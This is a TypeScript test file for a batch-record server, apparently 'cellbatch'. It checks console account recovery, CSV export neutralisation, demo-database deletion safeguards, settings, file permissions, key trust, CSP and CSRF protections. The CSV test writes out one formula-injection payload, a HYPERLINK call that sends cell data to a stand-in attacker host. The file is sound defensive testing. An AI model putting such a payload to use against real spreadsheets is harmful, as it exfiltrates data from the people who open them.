// Issue 10, findings 3–6: break-glass recovery from the console, CSV formula
// injection, the demo's database, and the defaults (settings validated, CSP, CSRF bound to its session,
// Secure cookies behind a trusted proxy, file modes, the verifier's keys). Each attack is reproduced first.
// The last-admin guard: last-admin.test.ts.
import fs from 'node:fs';
import https from 'node:https';
import { spawnSync } from 'node:child_process';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ADMIN_PASSWORD, call, harness, PASSWORD, type Harness, sqliteOf } from '../../helpers.js';
import { cliRecordArgs } from '../../owner.js';
import { auditAll, userIdOf } from '../part11/support.js';
import { buildApp } from '../../../server/app.js';
import { bootstrapAdmin } from '../../../server/services/bootstrap.js';
import { runCliAsync } from '../../../server/cli.js';
import { osUser } from '../../../server/store/sqlite/backup.js';
import { neutralised } from '../../../server/routes/audit.js';
import { keyInsideDatabaseFolder, parseSettings, SettingsError } from '../../../server/settings.js';
import { demoKeyDir, notADemoDatabase, removeDemoDatabase } from '../../../server/demo-safety.js';
import { writeRecord } from './demo-safety.js';
import { generateKeyPairSync } from 'node:crypto';

let h: Harness;
beforeEach(async () => { h = await harness(); });
afterEach(async () => h.close());

const WRONG = 'Wrong-Password-000';
const login = (username: string, password: string) => call(h, null, 'POST', '/auth/login', { username, password });
const dbFile = () => path.join(h.dir, 'cellbatch.db');
/** The command line's arguments naming this harness's record (the file, or the PostgreSQL database and the log's file). */
const record = () => cliRecordArgs(h.location);
/** For the cases about the SQLite file itself (its modes, the demo's file, a backup): a harness on a file whatever the suite's database. */
const onTheFile = () => beforeEach(async () => {
  if (h.ctx.store.dialect === 'sqlite') return;
  await h.close();
  h = await harness({ store: 'sqlite' });
});

describe('break-glass recovery from the console', () => {
  // The CLI writes on the system clock: this app's wall clock starts at the real time and is moved past
  // the CLI's rows after each run (a clock that reads earlier than the last row is refused, 503).
  beforeEach(async () => {
    await h.close();
    h = await harness({ start: Date.now() });
  });
  const cli = async (argv: string[]) => {
    const r = await runCliAsync(argv);
    h.wall.now = Date.now() + 1000;
    return r;
  };
  async function lockAdmin() {
    for (let i = 0; i < 5; i++) expect((await login('admin', WRONG)).status).toBe(401);
    expect((await login('admin', ADMIN_PASSWORD)).status).toBe(423);
  }

  it('five unauthenticated wrong logins lock the only admin; `cellbatch unlock admin --reason` lifts it, audited with the OS user', async () => {
    await lockAdmin();
    const r = await cli(['unlock', 'admin', '--reason', 'locked out by a guessing attack; identity checked', ...record()]);
    expect(r.code, r.lines.join('\n')).toBe(0);
    const ok = await login('admin', ADMIN_PASSWORD);
    expect(ok.status).toBe(200);
    h.tokens.admin = ok.body.token;
    const rows = await auditAll(h, 'qa1', '&action=account.unlocked');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ userId: null, entityId: await userIdOf(h, 'admin'), reason: 'locked out by a guessing attack; identity checked', after: { locked: false, by: osUser(), via: 'cli' } });
    expect((await h.ctx.store.verifyChains()).valid).toBe(true);
  });

  it('`cellbatch reset-password admin --reason` prints a temporary password once; it must be changed; old sessions end; the lock lifts', async () => {
    const oldToken = h.tokens.admin;
    await lockAdmin();
    const r = await cli(['reset-password', 'admin', '--reason', 'password forgotten', ...record()]);
    expect(r.code, r.lines.join('\n')).toBe(0);
    const temp = /temporary password for admin: (\S+)/.exec(r.lines.join('\n'))![1];
    expect((await login('admin', ADMIN_PASSWORD)).status).toBe(401);
    const ok = await login('admin', temp);
    expect(ok.status).toBe(200);
    expect(ok.body.mustChangePassword).toBe(true);
    expect((await h.app.inject({ method: 'GET', url: '/api/v1/me', headers: { authorization: `Bearer ${oldToken}` } })).statusCode).toBe(401);
    const resets = await auditAll(h, 'qa1', '&action=password.reset');
    expect(resets.at(-1)).toMatchObject({ userId: null, reason: 'password forgotten', after: { mustChangePassword: true, by: osUser(), via: 'cli' } });
    expect(JSON.stringify(await auditAll(h, 'qa1'))).not.toContain(temp);
  });

  it('refuses without a reason (exit 2) and for an unknown user (exit 1), changing nothing', async () => {
    const before = await h.ctx.store.counts();
    expect((await cli(['unlock', 'admin', ...record()])).code).toBe(2);
    expect((await cli(['reset-password', 'admin', '--reason', ' ', ...record()])).code).toBe(2);
    expect((await cli(['unlock', 'nobody', '--reason', 'x', ...record()])).code).toBe(1);
    expect(await h.ctx.store.counts()).toEqual(before);
  });
});

describe('CSV formula injection in GET /audit/export?format=csv', () => {
  it('an id sent in a URL path lands in the export as text, never as a formula', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const r = await call(h, 'sup1', 'PATCH', `/materials/${encodeURIComponent(evil)}`, { status: 'released', reason: 'x' });
    expect(r.status).toBeGreaterThanOrEqual(400);
    const csv = await h.app.inject({ method: 'GET', url: '/api/v1/audit/export?format=csv', headers: { authorization: `Bearer ${h.tokens.qa1}` } });
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`'=HYPERLINK(`);
    // No cell begins with a formula character: after a separator, optionally inside quotes.
    expect(csv.body).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/);
  });

  it('neutralises every character OWASP lists, and only at the start', () => {
    for (const c of ['=', '+', '-', '@', '\t', '\r']) expect(neutralised(`${c}1+1`)).toBe(`'${c}1+1`);
    expect(neutralised('a=1')).toBe('a=1');
    expect(neutralised('2026-03-02T08:00:00.000Z')).toBe('2026-03-02T08:00:00.000Z');
  });
});

describe('npm run demo and the database it deletes', () => {
  onTheFile();
  it('refuses a GMP database (no demo mark, batches not marked TRAINING) and deletes nothing', async () => {
    sqliteOf(h.ctx.store).pragma('wal_checkpoint(FULL)');
    expect(await notADemoDatabase(dbFile())).toMatch(/not made by the demo/);
    await expect(removeDemoDatabase(dbFile())).rejects.toThrowError(/refuses to delete/);
    expect(fs.existsSync(dbFile())).toBe(true);
  });

  it('refuses a database carrying the mark that holds a record not marked TRAINING; deletes its own', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cellbatch-demo-'));
    try {
      const file = path.join(dir, 'demo.db');
      await writeRecord(file, { mark: true, batches: [true] });
      expect(await notADemoDatabase(file)).toBeNull();
      await writeRecord(file, { mark: true, batches: [false] });
      await expect(removeDemoDatabase(file)).rejects.toThrowError(/1 batch\(es\) or entries that are not marked TRAINING/);
      expect(fs.existsSync(file)).toBe(true);
      const own = path.join(dir, 'own.db');
      await writeRecord(own, { mark: true, batches: [true, true] });
      fs.mkdirSync(demoKeyDir(own));
      await removeDemoDatabase(own);
      expect(fs.existsSync(own)).toBe(false);
      expect(fs.existsSync(demoKeyDir(own))).toBe(false);
      expect(await notADemoDatabase(path.join(dir, 'absent.db'))).toBeNull();
      fs.writeFileSync(path.join(dir, 'notes.txt'), 'not a database');
      await expect(removeDemoDatabase(path.join(dir, 'notes.txt'))).rejects.toThrowError(/cannot be read/);
      expect(fs.readFileSync(path.join(dir, 'notes.txt'), 'utf8')).toBe('not a database');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it("looks at another application's SQLite database without changing a byte of it (read-only, no migration)", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cellbatch-demo-'));
    try {
      const file = path.join(dir, 'other.db');
      const db = new Database(file);
      db.exec('create table notes (id integer primary key, body text); insert into notes (body) values (\'keep me\')');
      db.close();
      fs.chmodSync(file, 0o644);
      const before = fs.readFileSync(file);
      await expect(removeDemoDatabase(file)).rejects.toThrowError(/cannot be read as a cellbatch database/);
      expect(fs.readFileSync(file).equals(before)).toBe(true);
      expect(fs.statSync(file).mode & 0o777).toBe(0o644);
      expect(fs.readdirSync(dir)).toEqual(['other.db']);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('settings are checked at start', () => {
  it('a non-numeric CELLBATCH_IDLE_MINUTES or CELLBATCH_PASSWORD_DAYS stops the start, naming the variable', () => {
    expect(() => parseSettings({ CELLBATCH_IDLE_MINUTES: '15m' })).toThrowError(SettingsError);
    try {
      parseSettings({ CELLBATCH_IDLE_MINUTES: '15m', CELLBATCH_PASSWORD_DAYS: 'never', PORT: '99999', CELLBATCH_TZ: 'Mars/Olympus', CELLBATCH_TLS_CERT: '/x.pem' });
      expect.unreachable();
    } catch (e) {
      const text = (e as Error).message;
      for (const name of ['CELLBATCH_IDLE_MINUTES', 'CELLBATCH_PASSWORD_DAYS', 'PORT', 'CELLBATCH_TZ', 'CELLBATCH_TLS_CERT']) expect(text).toContain(name);
    }
    expect(() => parseSettings({ CELLBATCH_IDLE_MINUTES: '0' })).toThrowError(/CELLBATCH_IDLE_MINUTES/);
    expect(() => parseSettings({ CELLBATCH_SESSION_HOURS: '-1' })).toThrowError(/CELLBATCH_SESSION_HOURS/);
    expect(() => parseSettings({ CELLBATCH_TRAINING: 'yes' })).toThrowError(/CELLBATCH_TRAINING/);
    expect(() => parseSettings({ CELLBATCH_TRUST_PROXY: 'everyone' })).toThrowError(/CELLBATCH_TRUST_PROXY/);
  });

  it('no settings at all: loopback, port 3000, 15 idle minutes, 12-hour sessions, 180-day passwords', () => {
    expect(parseSettings({})).toMatchObject({
      host: '127.0.0.1', port: 3000, idleTimeoutMinutes: 15, sessionMaxHours: 12, passwordMaxAgeDays: 180, trustProxy: false, secureCookies: false, training: false, logger: true,
    });
    expect(parseSettings({ HOST: '0.0.0.0', CELLBATCH_TRUST_PROXY: '10.0.0.1, 10.0.0.2', CELLBATCH_SECURE_COOKIES: '1' })).toMatchObject({ host: '0.0.0.0', trustProxy: '10.0.0.1, 10.0.0.2', secureCookies: true });
    expect(parseSettings({ CELLBATCH_TRUST_PROXY: '1' }).trustProxy).toBe(true);
    expect(parseSettings({ CELLBATCH_TRUST_PROXY: '2' }).trustProxy).toBe(2);
  });

  it('knows when the key folder lies inside the database folder (the start warns)', () => {
    expect(keyInsideDatabaseFolder('./data/cellbatch.db', './data/keys')).toBe(true);
    expect(keyInsideDatabaseFolder('/srv/db/cellbatch.db', '/srv/keys')).toBe(false);
  });
});

describe('files are the service account\'s alone', () => {
  onTheFile();
  it('database, WAL, mark and key files are 0600, the key folder 0700', () => {
    const mode = (f: string) => fs.statSync(f).mode & 0o777;
    expect(mode(dbFile())).toBe(0o600);
    expect(mode(`${dbFile()}-wal`)).toBe(0o600);
    const keys = path.join(h.dir, 'keys');
    expect(mode(keys)).toBe(0o700);
    for (const f of fs.readdirSync(keys)) expect(mode(path.join(keys, f)), f).toBe(0o600);
  });

  it('a backup (its signed checkpoints inside it) is 0600, in a folder made 0700', async () => {
    const target = path.join(h.dir, 'backups', 'b1.db');
    const r = await runCliAsync(['backup', target, '--user', 'qa1', '--db', dbFile()]);
    expect(r.code, r.lines.join('\n')).toBe(0);
    expect(fs.statSync(target).mode & 0o777).toBe(0o600);
    expect(fs.statSync(path.dirname(target)).mode & 0o777).toBe(0o700);
  });
});

describe('cellbatch verify trusts only the keys it is given or the server\'s own', () => {
  it('a forged checkpoint signed by a key dropped into the key folder is not trusted', async () => {
    const keys = path.join(h.dir, 'keys');
    expect((await runCliAsync(['verify', ...record()])).code).toBe(0);
    // An attacker who can write the key folder plants a public key of their own.
    const { publicKey } = generateKeyPairSync('ed25519');
    fs.writeFileSync(path.join(keys, 'attacker.pub.pem'), publicKey.export({ type: 'spki', format: 'pem' }));
    const { publicKeysIn } = await import('../../../server/store/checkpoints.js');
    expect([...publicKeysIn(keys).keys()]).toEqual([h.ctx.integrity!.key.id]);
    // With --key naming only the attacker's key, the server's checkpoints no longer verify.
    const r = await runCliAsync(['verify', ...record(), '--key', path.join(keys, 'attacker.pub.pem')]);
    expect(r.code).toBe(1);
    expect((await runCliAsync(['verify', ...record(), '--key', path.join(keys, 'checkpoint-ed25519.pub.pem')])).code).toBe(0);
  });
});

describe('headers and cookies', () => {
  it('a strict Content-Security-Policy on every answer; /docs loads only its own scripts and styles', async () => {
    const api = await call(h, 'op1', 'GET', '/me');
    const csp = String(api.headers['content-security-policy']);
    for (const d of ["default-src 'self'", "script-src 'self'", "script-src-attr 'none'", "style-src 'self'", "object-src 'none'", "frame-ancestors 'none'"]) expect(csp).toContain(d);
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval/);
    const docs = await h.app.inject({ method: 'GET', url: '/docs/' });
    expect(docs.statusCode).toBe(200);
    // /docs adds exactly one style hash (swagger-ui's injected <style>), nothing else.
    expect(docs.headers['content-security-policy']).toBe(csp.replace("style-src 'self'", "style-src 'self' 'sha256-RL3ie0nH+Lzz2YNqQN83mnU0J1ot4QL7b99vMdIX99w='"));
    const scripts = [...docs.body.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attrs, inline] of scripts) {
      expect(attrs).toMatch(/src="[^":]+"/); // same origin, relative
      expect(inline.trim()).toBe('');
    }
    expect(docs.body).not.toMatch(/<style|style="| on[a-z]+="/i);
    for (const [, src] of docs.body.matchAll(/(?:src|href)="([^"]+)"/g)) {
      const asset = await h.app.inject({ method: 'GET', url: new URL(src, 'http://localhost/docs/').pathname });
      expect(asset.statusCode, src).toBe(200);
    }
  });

  it('a CSRF token issued for one session is refused with another session (cookie tossing)', async () => {
    const op1 = await h.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { username: 'op1', password: PASSWORD } });
    const op2 = await h.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { username: 'op2', password: PASSWORD } });
    const cookie = (r: typeof op1, name: string) => (r.cookies as { name: string; value: string }[]).find((c) => c.name === name)!.value;
    const secret = cookie(op1, 'cellbatch_csrf');
    // The attacker (op2) gets a token for op1's CSRF secret, but for op2's own session.
    const forged = await h.app.inject({ method: 'GET', url: '/api/v1/auth/csrf', cookies: { cellbatch_session: cookie(op2, 'cellbatch_session'), cellbatch_csrf: secret } });
    expect(forged.statusCode).toBe(200);
    const payload = { processId: 'car-t', din: 'W123426000001N', patient: { id: 'PT-1', weightKg: 70 } };
    const attack = await h.app.inject({ method: 'POST', url: '/api/v1/batches', payload, cookies: { cellbatch_session: cookie(op1, 'cellbatch_session'), cellbatch_csrf: secret }, headers: { 'x-csrf-token': forged.json().csrfToken } });
    expect(attack.statusCode).toBe(403);
    expect(attack.json().type).toMatch(/csrf-token-invalid/);
    expect(await h.ctx.store.allBatchIds()).toHaveLength(0);
    // op1's own token still works.
    const own = await h.app.inject({ method: 'POST', url: '/api/v1/batches', payload, cookies: { cellbatch_session: cookie(op1, 'cellbatch_session'), cellbatch_csrf: secret }, headers: { 'x-csrf-token': op1.json().csrfToken } });
    expect(own.statusCode).not.toBe(403);
  });

  it('served over TLS itself (CELLBATCH_TLS_CERT / CELLBATCH_TLS_KEY): a login over https sets Secure cookies, with no proxy and no setting', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cellbatch-tls-'));
    try {
      const [key, cert] = [path.join(dir, 'key.pem'), path.join(dir, 'cert.pem')];
      const made = spawnSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', key, '-out', cert, '-subj', '/CN=localhost', '-days', '1'], { encoding: 'utf8' });
      expect(made.status, made.stderr).toBe(0);
      const { app, ctx } = await buildApp({ dbFile: ':memory:', training: true, https: { cert: fs.readFileSync(cert), key: fs.readFileSync(key) } });
      try {
        await bootstrapAdmin(ctx, ADMIN_PASSWORD, () => {});
        await app.listen({ port: 0, host: '127.0.0.1' });
        const { port } = app.server.address() as AddressInfo;
        const reply = await new Promise<{ status: number; cookies: string[] }>((resolve, reject) => {
          const req = https.request({ host: '127.0.0.1', port, servername: 'localhost', ca: fs.readFileSync(cert), method: 'POST', path: '/api/v1/auth/login', headers: { 'content-type': 'application/json' } }, (res) => {
            res.resume();
            res.on('end', () => resolve({ status: res.statusCode!, cookies: res.headers['set-cookie'] ?? [] }));
          });
          req.on('error', reject);
          req.end(JSON.stringify({ username: 'admin', password: ADMIN_PASSWORD }));
        });
        expect(reply.status).toBe(200);
        expect(reply.cookies.length).toBeGreaterThan(0);
        for (const c of reply.cookies) expect(c).toMatch(/;\s*Secure/i);
      } finally {
        await app.close();
      }
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('behind a trusted TLS proxy (X-Forwarded-Proto: https) the cookies are Secure; an untrusted header is ignored', async () => {
    for (const [trustProxy, secure] of [[true, true], [false, false]] as const) {
      const { app, ctx } = await buildApp({ dbFile: ':memory:', training: true, trustProxy });
      try {
        await bootstrapAdmin(ctx, ADMIN_PASSWORD, () => {});
        const r = await app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { username: 'admin', password: ADMIN_PASSWORD }, headers: { 'x-forwarded-proto': 'https' } });
        expect(r.statusCode).toBe(200);
        expect(!!(r.cookies as { name: string; secure?: boolean }[]).find((c) => c.name === 'cellbatch_session')!.secure).toBe(secure);
      } finally {
        await app.close();
      }
    }
    const { app, ctx } = await buildApp({ dbFile: ':memory:', training: true, secureCookies: true });
    try {
      await bootstrapAdmin(ctx, ADMIN_PASSWORD, () => {});
      const r = await app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { username: 'admin', password: ADMIN_PASSWORD } });
      expect((r.cookies as { name: string; secure?: boolean }[]).every((c) => c.secure)).toBe(true);
    } finally {
      await app.close();
    }
  });
});
